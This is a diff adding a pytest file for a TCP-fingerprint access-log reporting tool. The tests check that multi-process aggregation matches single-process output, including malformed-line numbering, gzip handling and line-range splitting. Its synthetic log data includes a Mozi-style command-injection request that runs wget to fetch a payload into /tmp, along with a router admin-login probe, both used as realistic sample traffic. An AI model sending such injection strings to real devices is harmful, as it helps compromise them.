@@ -1,0 +1,159 @@
+"""`report` in worker processes gives the report of reading every line in one process.
+
+A large regular file is cut into ranges of whole lines (``logreader.line_ranges``);
+forked workers parse and aggregate them and the parent merges the partial
+aggregates in order.  These tests use tiny blocks so that a small log becomes
+many ranges, and compare the whole JSON report, malformed line numbers included,
+with the single-process one.
+"""
+
+from __future__ import annotations
+
+import gzip
+import random
+from pathlib import Path
+
+import pytest
+
+from tcpfp_cli import report as reporting
+from tcpfp_cli.campaigns import CampaignMatcher, load_campaigns
+from tcpfp_cli.logformat import compile_format
+from tcpfp_cli.logreader import line_ranges
+
+OS_FORMAT = ('%h "%r" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g '
+             '%{FINGERPRINT_TCP_MSS}g "%{FINGERPRINT_TCP_OPTIONS}g" %{FINGERPRINT_HOPS}g '
+             '"%{FINGERPRINT_OS}g" "%{FINGERPRINT_OS_MATCH}g" %{FINGERPRINT_TCP_RTT}g')
+P0F_FORMAT = ('%h "%r" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g '
+              '%{FINGERPRINT_TCP_MSS}g "%{FINGERPRINT_TCP_OPTIONS}g" "%{FINGERPRINT_P0F}g" %{FINGERPRINT_TCP_RTT}g')
+
+STACKS = [  # ttl, window, scale, mss, options, os, match, p0f
+    ("61", "64240", "7", "1460", "2,4,8,1,3", "s:unix:Linux:3.11 and newer", "exact",
+     "4:61+3:0:1460:mss*44,7:mss,sok,ts,nop,ws:df:0"),
+    ("117", "64240", "8", "1460", "2,1,3,1,1,4", "s:win:Windows:7 or 8", "exact",
+     "4:117+11:0:1460:mss*44,8:mss,nop,ws,nop,nop,sok:df,id+:0"),
+    ("50", "5808", "2", "1452", "2,4,8,1,3", "-", "-", "4:50+14:0:1452:5808,2:mss,sok,ts,nop,ws:df:0"),
+    ("-", "-", "-", "-", "-", "-", "-", "-"),  # no SYN
+    ("240", "29200", "5", "1400", "2,4,8,1,3", "s:unix:Linux:2.6.x", "fuzzy",
+     "4:240+15:0:1400:mss*20,5:mss,sok,ts,nop,ws:df:0"),
+]
+REQUESTS = [
+    "GET / HTTP/1.1", "GET /index.html HTTP/1.1", "GET /favicon.ico HTTP/1.1",
+    "GET /board.cgi?cmd=cd+/tmp;wget+http://{ip}:{port}/Mozi.m HTTP/1.0",
+    "POST /boaform/admin/formLogin?username=admin&psd={n} HTTP/1.0",
+    'GET /q?x=\\"{n}\\" HTTP/1.1',  # escaped quotes
+    "GET /a\\\\b{n} HTTP/1.1",  # an escaped backslash
+    "\\x16\\x03\\x01\\x02",  # TLS junk
+    "-",
+]
+
+
+def _line(rng: random.Random, fmt: str) -> str:
+    ttl, window, scale, mss, options, os_label, match, p0f = rng.choice(STACKS)
+    request = rng.choice(REQUESTS).format(ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.7",
+                                          port=rng.randrange(1024, 65536), n=rng.randrange(10_000))
+    host = f"192.0.2.{rng.randrange(40)}"
+    rtt = str(rng.randrange(100, 900_000)) if ttl != "-" else "-"
+    head = f'{host} "{request}" {ttl} {window} {scale} {mss} "{options}"'
+    if fmt == OS_FORMAT:
+        hops = "-" if ttl == "-" else str(64 - int(ttl) if int(ttl) <= 64 else 128 - int(ttl) if int(ttl) <= 128 else 255 - int(ttl))
+        return f'{head} {hops} "{os_label}" "{match}" {rtt}'
+    return f'{head} "{p0f}" {rtt}'
+
+
+def _write_log(path: Path, fmt: str, lines: int, seed: int) -> list[int]:
+    """A log with blank and malformed lines spread over it; the numbers of the malformed ones."""
+    rng = random.Random(seed)
+    out = []
+    bad = []
+    for number in range(1, lines + 1):
+        roll = rng.random()
+        if roll < 0.004:
+            out.append("")
+            continue
+        line = _line(rng, fmt)
+        if roll < 0.012:
+            line = line[: rng.randrange(5, len(line) - 3)] if rng.random() < 0.5 else line + " extra"
+            bad.append(number)
+        out.append(line)
+    path.write_text("\n".join(out))  # no newline after the last line
+    fmt_compiled = compile_format(fmt)
+    checked = []
+    for number, line in enumerate(out, 1):
+        try:
+            fmt_compiled.parse(line)
+        except Exception:
+            if line.strip():
+                checked.append(number)
+    assert checked == bad  # the damage is what the parser rejects
+    return bad
+
+
+def _report(paths, fmt, workers, chunk_bytes=None):
+    options = reporting.ReportOptions(campaigns=CampaignMatcher(load_campaigns()), workers=workers,
+                                      chunk_bytes=chunk_bytes)
+    return reporting.build_report([str(p) for p in paths], fmt, options).to_json()
+
+
+@pytest.fixture
+def ranges_used(monkeypatch):
+    calls = []
+    original = reporting._aggregate_in_processes
+
+    def spy(reader, agg, path, label, size, workers):
+        calls.append(path)
+        return original(reader, agg, path, label, size, workers)
+
+    monkeypatch.setattr(reporting, "_aggregate_in_processes", spy)
+    return calls
+
+
+@pytest.mark.parametrize("fmt", [OS_FORMAT, P0F_FORMAT], ids=["os", "p0f"])
+def test_processes_give_the_single_process_report(tmp_path, fmt, ranges_used):
+    log = tmp_path / "access.log"
+    bad = _write_log(log, fmt, 3000, seed=7)
+    single = _report([log], fmt, workers=1, chunk_bytes=4096)
+    assert ranges_used == []
+    many = _report([log], fmt, workers=2, chunk_bytes=4096)
+    assert ranges_used == [str(log)]
+    assert many == single
+    assert many["summary"]["malformed"] == len(bad)
+    assert [m["line"] for m in many["malformed_lines"]] == bad[:10]
+    assert many["summary"]["lines"] == 3000
+
+
+def test_line_numbers_per_file_across_ranges(tmp_path, ranges_used):
+    first, second = tmp_path / "a.log", tmp_path / "b.log"
+    bad_a = _write_log(first, OS_FORMAT, 400, seed=1)
+    bad_b = _write_log(second, OS_FORMAT, 2500, seed=2)
+    single = _report([first, second], OS_FORMAT, workers=1, chunk_bytes=2048)
+    many = _report([first, second], OS_FORMAT, workers=3, chunk_bytes=2048)
+    assert ranges_used == [str(first), str(second)]
+    assert many == single
+    expected = [(str(first), n) for n in bad_a] + [(str(second), n) for n in bad_b]
+    assert [(m["file"], m["line"]) for m in many["malformed_lines"]] == expected[:10]
+
+
+def test_gzip_and_small_files_are_read_here(tmp_path, ranges_used):
+    log = tmp_path / "access.log"
+    _write_log(log, OS_FORMAT, 1500, seed=3)
+    packed = tmp_path / "access.log.gz"
+    packed.write_bytes(gzip.compress(log.read_bytes()))
+    single = _report([log], OS_FORMAT, workers=1, chunk_bytes=4096)
+    assert _report([packed], OS_FORMAT, workers=2, chunk_bytes=4096)["fingerprints"] == single["fingerprints"]
+    assert _report([log], OS_FORMAT, workers=2) == single  # one block: no processes
+    assert ranges_used == []
+
+
+@pytest.mark.parametrize("parts", [1, 2, 3, 7, 50, 1000])
+def test_line_ranges_cover_the_file_at_line_starts(tmp_path, parts):
+    rng = random.Random(parts)
+    lines = [b"x" * rng.choice([0, 1, 5, 80, 70_000]) for _ in range(60)]
+    data = b"\n".join(lines) + b"\n"
+    path = tmp_path / "lines"
+    path.write_bytes(data)
+    ranges = line_ranges(str(path), len(data), parts)
+    assert ranges[0][0] == 0 and ranges[-1][1] == len(data)
+    assert all(a < b for a, b in ranges)
+    assert all(prev[1] == nxt[0] for prev, nxt in zip(ranges, ranges[1:]))
+    assert all(data[a - 1:a] == b"\n" for a, _ in ranges[1:])
+    assert len(ranges) <= parts
